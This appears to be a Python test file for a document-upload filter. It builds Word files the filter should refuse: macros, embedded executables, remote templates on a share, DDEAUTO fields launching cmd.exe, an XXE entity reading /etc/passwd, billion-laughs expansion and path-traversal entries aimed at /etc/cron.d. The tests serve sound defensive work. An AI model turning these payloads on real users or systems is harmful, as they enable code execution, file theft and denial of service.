"""Word files that run, fetch or hide something."""

from tests.documents.corpus import CANARY, DOCX, kept, refused, several
from tests.documents.corpus.making import (
    MAIN,
    TYPES,
    W,
    archive,
    document,
    relation,
    relations,
    word,
)

ACTIVE, BROKEN = refused("active"), refused("corrupt")
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2_000
RELS = "word/_rels/document.xml.rels"
SHARE = "file:////ke-xau/x"


def with_relation(*rows: str) -> bytes:
    return word({RELS: relations(*rows)})


def utf16(data: bytes) -> bytes:
    return data.decode().replace("UTF-8", "UTF-16").encode("utf-16")


def field(code: str) -> bytes:
    return word(inner=f'<w:p><w:fldSimple w:instr="{code}"><w:r><w:t>0</w:t></w:r></w:fldSimple></w:p>')


several(
    "don.docx",
    ACTIVE,
    {
        "a word file with macros": lambda: word({"word/vbaProject.bin": OLE}),
        "a word file with macros under another name": lambda: word(
            {
                "word/settings2.bin": OLE,
                RELS: relations(relation("x", "settings2.bin", mode="Internal").replace("/x", "/vbaProject")),
            }
        ),
        "a word file that says it has macros": lambda: word(
            main="application/vnd.ms-word.document.macroEnabled.main+xml"
        ),
        "a word file that says it has macros in another spelling": lambda: word(
            main="application/vnd.ms-word.document.MACROENABLED.main+xml"
        ),
        "a template with macros": lambda: word(main="application/vnd.ms-word.template.macroEnabledTemplate.main+xml"),
        "a word file with an embedded workbook": lambda: word({"word/embeddings/oleObject1.bin": OLE}),
        "a word file with an embedded program": lambda: word({"word/media/image1.png": b"MZ\x90\0" + b"\0" * 500}),
        "a word file with an embedded program of another system": lambda: word(
            {"word/media/image1.png": b"\x7fELF\x02\x01\x01" + b"\0" * 500}
        ),
        "a word file with an active control": lambda: word({"word/activeX/activeX1.bin": OLE}),
        "a word file with a template from elsewhere": lambda: with_relation(relation("attachedTemplate", SHARE)),
        "a word file with an object from elsewhere": lambda: with_relation(relation("oleObject", SHARE)),
        "a word file with a frame from elsewhere": lambda: with_relation(relation("frame", SHARE)),
        "a word file with a part from elsewhere": lambda: with_relation(relation("subDocument", SHARE)),
        "a word file with a picture from elsewhere": lambda: with_relation(relation("image", SHARE)),
        "a word file with a list of addresses from elsewhere": lambda: with_relation(
            relation("mailMergeSource", SHARE)
        ),
        "a word file with a template from elsewhere in other words": lambda: word(
            {RELS: relations(relation("attachedTemplate", SHARE)).replace(b'"External"', b'"&#69;xternal"')}
        ),
        "a word file with a template from elsewhere in wide letters": lambda: word(
            {RELS: utf16(relations(relation("attachedTemplate", SHARE)))}
        ),
        "a word file with a template from elsewhere in single quotes": lambda: word(
            {RELS: relations(relation("attachedTemplate", SHARE)).replace(b'"', b"'")}
        ),
        "a word file with a page of the web inside": lambda: word(
            {
                "word/a.html": b"<script>alert(1)</script>",
                RELS: relations(relation("aFChunk", "a.html", mode="Internal")),
            }
        ),
        "a word file that starts a program": lambda: field("DDEAUTO c:\\\\windows\\\\cmd.exe &quot;/k calc&quot;"),
        "a word file that starts a program in pieces": lambda: word(
            inner='<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r>'
            "<w:r><w:instrText>EAUTO c:\\cmd.exe</w:instrText></w:r></w:p>"
        ),
        "a word file that fetches a picture by a field": lambda: field("INCLUDEPICTURE &quot;http://ke-xau/x&quot;"),
        "a word file that fetches text by a field": lambda: field("includetext &quot;\\\\ke-xau\\x&quot;"),
        "a word file with an entity": lambda: word(
            {RELS: b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><Relationships>&x;</Relationships>'}
        ),
        "a word file of a thousand million laughs": lambda: word({"word/document.xml": _laughs()}),
        "a word file with an entity in wide letters": lambda: word(
            {"word/document.xml": _laughs().decode().encode("utf-16")}
        ),
    },
)


def _laughs() -> bytes:
    rows = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    body = document("<w:p>&l9;</w:p>").decode().partition("?>")[2]
    return f'<!DOCTYPE lol [<!ENTITY l0 "lol">{rows}]>{body}'.encode()


def _twice() -> bytes:
    made = word({"word/dokument.xml": document("<w:p/>")})
    return made.replace(b"word/dokument.xml", b"word/document.xml")


def _locked() -> bytes:
    made = bytearray(word())
    at = made.index(b"PK\x01\x02")
    made[at + 8] |= 1
    made[6] |= 1
    return bytes(made)


several(
    "don.docx",
    BROKEN,
    {
        "a word file without its document": lambda: archive(
            {"[Content_Types].xml": b"<Types/>", "word/x.xml": b"<x/>"}
        ),
        "a word file without its types": lambda: archive({"word/document.xml": document()}),
        "a word file of other types": lambda: archive(
            {"[Content_Types].xml": b"\0\0", "word/document.xml": document()}
        ),
        "a word file whose document is no xml": lambda: word({"word/document.xml": b"\xff\xfe<<<<"}),
        "a word file with a part above its folder": lambda: word({"word/../../../etc/cron.d/x": b"x"}),
        "a word file with a part from the root": lambda: word({"/etc/cron.d/x": b"x"}),
        "a word file with a part on a drive": lambda: word({"c:\\windows\\x": b"x"}),
        "a word file with a part twice": _twice,
        "a word file with a part in two spellings": lambda: word({"word/DOCUMENT.xml": document()}),
        "a locked word file": _locked,
    },
)


several(
    "don.docx",
    kept(DOCX),
    {
        "a plain word file": word,
        "a word file with a link": lambda: with_relation(relation("hyperlink", "https://dichvucong.gov.vn")),
        "a word file of another word": lambda: archive(
            {
                "[Content_Types].xml": TYPES.format(more="", main=MAIN).encode(),
                "mimetype": b"x",
                "word/document.xml": f'<w:document xmlns:w="{W}"><w:body/></w:document>'.encode(),
            }
        ),
        "a word file with page numbers": lambda: field("PAGE \\* MERGEFORMAT"),
        "a word file with a part nobody uses": lambda: word({"word/media/x.bin": CANARY[:4].encode()}),
    },
)
several(
    "don.docm",
    refused("type"),
    {"a word file with macros under its own name": lambda: word({"word/vbaProject.bin": OLE})},
)
